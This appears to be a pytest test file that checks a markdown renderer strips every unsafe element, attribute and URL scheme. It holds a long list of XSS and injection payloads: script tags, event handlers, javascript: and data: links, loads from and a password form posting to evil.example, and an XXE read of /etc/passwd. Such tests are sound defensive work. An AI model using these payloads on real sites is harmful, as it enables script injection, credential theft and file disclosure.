"""No element, attribute or address of an attacker survives, under any extension."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from elixir_design.text.markdown import (
    TextOptions,
    block_markdown,
    html_inline,
    inline_markdown,
    plain_text,
    session_markdown,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div markdown='1' onclick=alert(1)>\n\n**x**\n\n</div>",
    "<div>\n<script>alert(1)</script>\n\n<b onclick=x>y</b>\n</div>",
    "<b onmouseover=alert(1)>bold</b>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- comment --><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>",
    "<!-- elixir-design: x --><script>alert(1)</script>",
    "a <!-- elixir-design: x --><img src=x onerror=alert(1)>",
    "<!-- elixir-design: x\n\n--> <img src=x onerror=alert(1)>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "``<script>`alert(1)</script>``",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "- item\n\n      <script>alert(1)</script>",
    "- item\n  ```\n  </pre><script>alert(1)</script>\n  ```",
    "> ```\n> <script>alert(1)</script>\n> ```",
    "``` {.python onclick=alert(1)}\nx\n```",
    '``` python title="<script>alert(1)</script>"\nx\n```',
    '```mermaid\ngraph TD\nA-->B\nclick A href "javascript:alert(1)"\n```',
    "```python exec='on'\nprint('<script>')\n```",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:https://evil.example)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: data:text/html,x 'title'",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "!<https://evil.example/track.png>",
    "!https://evil.example/track.png",
    "[![x](https://evil.example/track.png)](javascript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example'onclick='alert\\(1\\))",
    '[x](https://a.example/"onclick="alert)',
    "[x](https://a.example){ onclick=alert(1) }",
    "[x](https://a.example){: onclick='alert(1)' }",
    "# Heading { #id onclick=alert(1) }",
    "# Heading {: onclick=alert(1) }",
    "paragraph\n{: onclick=alert(1) }",
    "*emphasis*{: onclick=alert(1) }",
    "| a | b |\n|---|---|\n| x { onclick=alert(1) } | <script>alert(1)</script> |",
    "| a |\n|---|\n| `</td><script>alert(1)</script>` |",
    "/// html | script\nalert(1)\n///",
    "/// html | div[onclick='alert(1)']\nx\n///",
    '!!! note "<script>alert(1)</script>"\n    body',
    "??? note\n    body",
    '=== "tab"\n    body',
    '--8<-- "passwd"',
    ';--8<-- "passwd"',
    "--8<--\npasswd\n--8<--",
    '--8<-- "https://evil.example/x.md"',
    '```\n--8<-- "passwd"\n```',
    '- x\n\n      --8<-- "passwd"',
    '`--8<-- "passwd"`',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "[[javascript:alert(1)]]",
    "++ctrl+alt++",
    '[=50% "<script>alert(1)</script>"]{: onclick=alert(1)}',
    "$\\href{javascript:alert(1)}{x}$",
    "$$\n\\href{javascript:alert(1)}{x}\n$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "{++<script>alert(1)</script>++}",
    "{>><script>alert(1)</script><<}",
    "::: os",
    "{{ config }} {% include 'x' %} {# x #}",
    "`{{ config }}` `{% raw %}`",
    ":smile: :material-alert:",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "x\x0b<script>alert(1)</script>",
    'x\u2028# heading\u2029--8<-- "passwd"',
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<https://evil.example/"onclick="alert(1)>',
    '<a@b.example"onclick="alert(1)>',
]
ELEMENTS = frozenset(
    [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "div",
        "em",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "img",
        "li",
        "ol",
        "p",
        "pre",
        "small",
        "span",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]
)
ATTRIBUTES = frozenset(
    [
        ("a", "href"),
        ("code", "class"),
        ("div", "class"),
        ("img", "alt"),
        ("img", "src"),
        ("ol", "type"),
        ("span", "class"),
        ("td", "style"),
        ("th", "style"),
        *((f"h{level}", "id") for level in range(2, 7)),
    ]
)
FUNCTIONS = {
    "session": lambda text: session_markdown(text, {}, links=lambda target: target),
    "block": lambda text: block_markdown(text, links=lambda target: target),
    "inline": lambda text: inline_markdown(text, links=lambda target: target),
    "html in Markdown": html_inline,
}


def assert_harmless(page):
    assert set(page.tags) <= ELEMENTS
    assert {(tag, name) for tag, name, _ in page.attributes} <= ATTRIBUTES
    addresses = [(tag, value) for tag, name, value in page.attributes if name in ("href", "src")]
    for tag, address in addresses:
        scheme = address.split(":")[0].strip().lower() if ":" in address else ""
        assert scheme in ("", "http", "https", "mailto"), address
        assert not (tag == "img" and (scheme or address.startswith("//"))), address
    classes = {value for _, name, value in page.attributes if name == "class"}
    assert not classes & {"mermaid", "arithmatex", "admonition", "task-list"}
    assert all(comment.strip() == "" for comment in page.comments)


@pytest.mark.parametrize("function", FUNCTIONS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_a_payload_acts(payload, function, render):
    page = render(FUNCTIONS[function](payload))
    assert_harmless(page)
    assert "root:" not in " ".join(page.words), "a file of the machine was included"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_islands_hold_nothing_but_emphasis_and_code(payload, read):
    page = read(html_inline(payload))
    assert set(page.tags) <= {"code", "em", "strong", "del", "br"}
    assert page.attributes == []


@pytest.mark.parametrize("function", ["session", "block", "inline", "html in Markdown"])
@pytest.mark.parametrize("text", ["{{ x }}", "a {% b %} c", "{# d #}", "`{{ x }}`", "[x](http://a/{{b}})"])
def test_template_languages_find_nothing_to_expand(text, function):
    written = FUNCTIONS[function](text)
    assert not any(mark in written for mark in ("{{", "{%", "{#"))


def test_a_forged_mark_of_the_processor_is_shown_as_symbols(render):
    page = render(session_markdown("\x02wzxhzdk:0\x03", {}))
    assert page.words == ["␂wzxhzdk:0␃"]


def test_trusted_logs_may_keep_their_html(minimal):
    log = "a <kbd>x</kbd>\n\n<section>\ny\n</section>"
    page = minimal(session_markdown(log, {}, options=TextOptions(raw_html="keep")))
    assert {"kbd", "section"} <= set(page.tags)


@settings(max_examples=150, deadline=None)
@given(text=st.text(st.sampled_from("<>/=\"'`*_[](){}!:#-+\n abjsx&;\\|~$^\x02\x03\u2028"), max_size=60))
def test_no_text_acts(text, maximal):
    assert_harmless(maximal(session_markdown(text, {}, links=lambda target: target)))


@settings(deadline=None)
@given(text=st.text(max_size=200))
def test_plain_text_is_one_line(text):
    assert len(plain_text(text).splitlines()) <= 1
